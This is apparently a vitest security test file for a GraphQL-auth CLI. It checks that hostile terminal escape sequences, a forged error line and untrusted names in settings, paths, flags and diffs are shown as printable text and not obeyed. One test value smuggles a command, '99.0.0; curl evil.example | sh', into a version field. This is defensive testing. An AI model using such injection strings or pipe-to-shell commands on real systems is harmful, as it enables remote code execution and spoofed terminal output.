import { mkdir, readFile, rm } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { printableText } from '../../src/cli/terminal/printable.js'
import { BASE_VERSION } from '../../src/regenerate/base.js'
import { writeFiles } from '../support/files.js'
import { newProject, type TestProject } from '../support/project.js'
import { emptyDirectory, type Run, run } from '../support/run.js'
import { hasTerminal, openTerminal } from '../support/terminal.js'

const BASE = '.graphql-auth/base.json'

/** A title for the window, a bell, a C1 introducer, turned writing, nothing, and a line of its own. */
const EVIL = '\u001B]0;x\u0007\u009B31m\u202Ereverse\u200B\nerror: forged'

function expectPrintable({ stdout, stderr }: Run): void {
  expect(stdout).toBe(printableText(stdout))
  expect(stderr).toBe(printableText(stderr))
  expect(`${stdout}\n${stderr}`).not.toMatch(/^error: forged/m)
}

async function editBase(project: TestProject, change: object): Promise<void> {
  const base = JSON.parse(await project.read(BASE))
  await project.write(BASE, JSON.stringify({ ...base, ...change }))
}

describe('what a project says', () => {
  const places: [string, (project: TestProject) => Promise<void>][] = [
    ['in the name of a setting', ({ configure }) => configure({ [EVIL]: 1 })],
    ['in the name of a field', ({ configure }) => configure({ USER_FIELDS: { [EVIL]: {} } })],
    ['in a value', ({ configure }) => configure({ flavor: EVIL })],
    ['in a member', ({ configure }) => configure({ GRAPHQL_AUTH: { RATE_LIMIT: { [EVIL]: 1 } } })],
    ['in settings that are not JSON', ({ write }) => write('graphql-auth.json', `{ ${EVIL}`)],
    ['in the settings of the base', (project) => editBase(project, { settings: { [EVIL]: 1 } })],
    [
      'in the version of a newer base',
      (project) => editBase(project, { version: BASE_VERSION + 1, generator: EVIL }),
    ],
    [
      'as a newer version with a command',
      (project) => editBase(project, { generator: '99.0.0; curl evil.example | sh' }),
    ],
    ['in the name of the project', (project) => editBase(project, { options: { name: EVIL } })],
    [
      'in a path of the base',
      (project) => editBase(project, { files: { [EVIL]: { id: 'x', kind: 'once' } } }),
    ],
  ]

  test.each(places)('%s is shown, not obeyed', async (_, say) => {
    const project = await newProject()
    await say(project)
    const commands = [['status'], ['info'], ['regenerate'], ['regenerate', '--json']]
    for (const args of commands) {
      const ran = await project.run(...args)
      expectPrintable(ran)
      expect(ran.stderr + ran.stdout).not.toContain('curl')
      if (args.includes('--json')) expect(JSON.parse(ran.stdout)).toHaveProperty('version', 1)
    }
  })

  test('is not called a version unless it is one', async () => {
    const project = await newProject()
    await editBase(project, { version: BASE_VERSION + 1, generator: 'next' })
    expect((await project.run('regenerate')).stderr).toBe(
      'error: this project was rendered by a newer version; run create-graphql-auth@latest',
    )
    expect((await project.run('info')).stdout).toMatch(/^rendered by +unknown$/m)
  })
})

describe('the name of a directory', () => {
  test('is shown, not obeyed', async () => {
    const cwd = await emptyDirectory()
    const name = `app ${EVIL.replaceAll('\n', '')}`
    const usual = ['--yes', '--no-git', '--no-install']
    for (const flags of [['--json', '--dry-run'], [], []]) {
      expectPrintable(await run([name, ...usual, ...flags], { cwd }))
    }
    for (const command of ['status', 'info', 'regenerate']) {
      expectPrintable(await run([command, name], { cwd }))
      expectPrintable(await run([command, `${name}-not`], { cwd }))
    }
    const readme = await readFile(join(cwd, name, 'README.md'), 'utf8')
    expect(readme).toBe(printableText(readme))
  })

  test('and flags that do not exist', async () => {
    const cwd = await emptyDirectory()
    for (const args of [[`--${EVIL}`], ['app', '--yes', '--flavor', EVIL], ['diff', '.', EVIL]]) {
      expectPrintable(await run(args, { cwd }))
    }
  })

  test('and what lies in a directory that is not empty', async () => {
    const cwd = await emptyDirectory()
    await mkdir(join(cwd, 'app'))
    await writeFiles(join(cwd, 'app'), { [EVIL.replaceAll('\n', '').slice(0, 20)]: '' })
    expectPrintable(await run(['app', '--yes'], { cwd }))
  })
})

describe('a diff', () => {
  async function edited(): Promise<TestProject> {
    const project = await newProject()
    await project.edit('src/process/clock.ts', '', `// ${EVIL}\r\n`)
    await project.write('README.md', `${EVIL}\n`)
    // Without it both versions are kept, and shown.
    await rm(join(project.directory, BASE))
    return project
  }

  test('into a pipe has every byte', async () => {
    const project = await edited()
    expect((await project.run('diff', 'README.md')).stdout).toContain(`${EVIL.split('\n')[0]}\n`)
  })

  test.skipIf(!hasTerminal)('on a terminal is shown, not obeyed', async () => {
    const project = await edited()
    const terminal = openTerminal(['diff', 'README.md'], { cwd: project.directory })
    expect(await terminal.exitCode()).toBe(0)
    expect(terminal.raw()).toContain('\\u001b]0;x\\u0007\\u009b31m\\u202ereverse\\u200b')
    expect(terminal.raw()).toBe(printableText(terminal.raw()))
  })
})
